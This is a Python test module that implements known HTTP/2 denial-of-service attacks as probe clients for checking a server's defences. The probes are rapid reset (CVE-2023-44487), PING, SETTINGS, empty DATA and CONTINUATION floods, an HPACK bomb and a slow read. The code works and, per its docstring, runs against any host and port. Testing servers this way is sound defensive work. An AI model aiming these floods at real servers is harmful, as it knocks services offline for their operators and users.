"""Known HTTP/2 attacks as small clients, for the end-to-end probe test and by hand.

Each probe opens its own connection, attacks until the server closes it (or a time
limit), and reports what the server did. Run by hand against any server:

    python -m tests.attack_probes 127.0.0.1 8080
"""

from __future__ import annotations

import asyncio
import dataclasses
import socket
import sys
from collections.abc import Callable

import h2.config
import h2.connection
import h2.settings
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


@dataclasses.dataclass
class ProbeResult:
    name: str
    closed_by_server: bool
    goaway_code: int | None
    bytes_sent: int


def _client(settings: dict[int, int] | None = None) -> h2.connection.H2Connection:
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
    if settings:
        conn.local_settings = h2.settings.Settings(client=True, initial_values=settings)
    conn.initiate_connection()
    return conn


def _request(path: str, host: str) -> list[tuple[bytes, bytes]]:
    return [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", host.encode()), (b":path", path.encode())]


async def _watch(reader: asyncio.StreamReader, result: ProbeResult) -> None:
    """Read (and parse) whatever the server sends until it closes the connection."""
    buffer = bytearray()
    try:
        while True:
            data = await reader.read(65536)
            if not data:
                result.closed_by_server = True
                return
            buffer += data
            while len(buffer) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(bytes(buffer[:9])))
                if len(buffer) < 9 + length:
                    break
                frame.parse_body(memoryview(bytes(buffer[9 : 9 + length])))
                del buffer[: 9 + length]
                if isinstance(frame, GoAwayFrame):
                    result.goaway_code = frame.error_code
    except (ConnectionError, OSError):
        result.closed_by_server = True


async def _flood(
    name: str, host: str, port: int, first: bytes, chunk: bytes | Callable[[], bytes], limit: float
) -> ProbeResult:
    """Send ``first``, then ``chunk`` (or what it returns) over and over until the server
    closes the connection, or for ``limit`` seconds."""
    result = ProbeResult(name, False, None, 0)
    reader, writer = await asyncio.open_connection(host, port)
    watcher = asyncio.create_task(_watch(reader, result))
    loop = asyncio.get_running_loop()
    deadline = loop.time() + limit
    try:
        writer.write(first)
        result.bytes_sent += len(first)
        while not watcher.done() and loop.time() < deadline:
            data = chunk() if callable(chunk) else chunk
            writer.write(data)
            result.bytes_sent += len(data)
            try:
                await asyncio.wait_for(writer.drain(), 1.0)
            except TimeoutError:
                pass  # the server stopped reading us: fine, keep watching
            await asyncio.sleep(0)
        await asyncio.wait_for(asyncio.shield(watcher), max(0.1, deadline - loop.time()))
    except (ConnectionError, OSError, TimeoutError):
        pass
    finally:
        watcher.cancel()
        writer.close()
    return result


def _handshake(conn: h2.connection.H2Connection) -> bytes:
    return conn.data_to_send()


async def rapid_reset(host: str, port: int, limit: float = 10.0) -> ProbeResult:
    """HEADERS immediately followed by RST_STREAM, on ever new streams (CVE-2023-44487)."""
    conn = _client()
    first = _handshake(conn)
    encoded = bytes(conn.encoder.encode(_request("/", host)))
    stream_id = 1

    def batch() -> bytes:
        nonlocal stream_id
        out = bytearray()
        for _ in range(500):
            out += HeadersFrame(stream_id, encoded, flags=["END_HEADERS", "END_STREAM"]).serialize()
            out += RstStreamFrame(stream_id, 0x8).serialize()
            stream_id += 2
        return bytes(out)

    return await _flood("rapid reset", host, port, first, batch, limit)


async def ping_flood(host: str, port: int, limit: float = 10.0) -> ProbeResult:
    first = _handshake(_client())
    return await _flood("PING flood", host, port, first, PingFrame(0, b"floodfld").serialize() * 2000, limit)


async def settings_flood(host: str, port: int, limit: float = 10.0) -> ProbeResult:
    first = _handshake(_client())
    frame = SettingsFrame(0, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 65535}).serialize()
    return await _flood("SETTINGS flood", host, port, first, frame * 2000, limit)


async def empty_data_flood(host: str, port: int, limit: float = 10.0) -> ProbeResult:
    conn = _client()
    first = _handshake(conn)
    request = [(b":method", b"POST"), *_request("/", host)[1:]]
    first += HeadersFrame(1, bytes(conn.encoder.encode(request)), flags=["END_HEADERS"]).serialize()
    return await _flood("empty DATA flood", host, port, first, DataFrame(1, b"").serialize() * 2000, limit)


async def continuation_flood(host: str, port: int, limit: float = 10.0) -> ProbeResult:
    conn = _client()
    first = _handshake(conn)
    first += HeadersFrame(1, bytes(conn.encoder.encode(_request("/", host)))).serialize()  # no END_HEADERS
    return await _flood("CONTINUATION flood", host, port, first, ContinuationFrame(1, b"a" * 4096).serialize(), limit)


async def hpack_bomb(host: str, port: int, limit: float = 10.0) -> ProbeResult:
    conn = _client()
    first = _handshake(conn)
    block = bytes(conn.encoder.encode(_request("/", host)))
    block += bytes(conn.encoder.encode([(b"x-bomb", b"b" * 4000)]))
    block += b"\xbe" * 8000  # index 62 (the bomb field) again and again
    frame = HeadersFrame(1, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
    return await _flood("HPACK bomb", host, port, first + frame, b"", limit)


async def slow_read(host: str, port: int, path: str = "/", limit: float = 10.0) -> ProbeResult:
    """Ask for a response, keep every window at zero, never read: the server must not
    keep the bytes forever or block others."""
    result = ProbeResult("slow read", False, None, 0)
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.setblocking(False)
    await asyncio.get_running_loop().sock_connect(sock, (host, port))
    _reader, writer = await asyncio.open_connection(sock=sock)
    conn = _client({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    for _ in range(50):
        conn.send_headers(conn.get_next_available_stream_id(), _request(path, host), end_stream=True)
    data = conn.data_to_send()
    writer.write(data)
    result.bytes_sent = len(data)
    await asyncio.sleep(limit)
    writer.close()
    return result


PROBES = (rapid_reset, ping_flood, settings_flood, empty_data_flood, continuation_flood, hpack_bomb)


async def _main(host: str, port: int) -> None:
    for probe in PROBES:
        print(await probe(host, port))
    print(await slow_read(host, port, limit=2.0))


if __name__ == "__main__":
    asyncio.run(_main(sys.argv[1], int(sys.argv[2])))
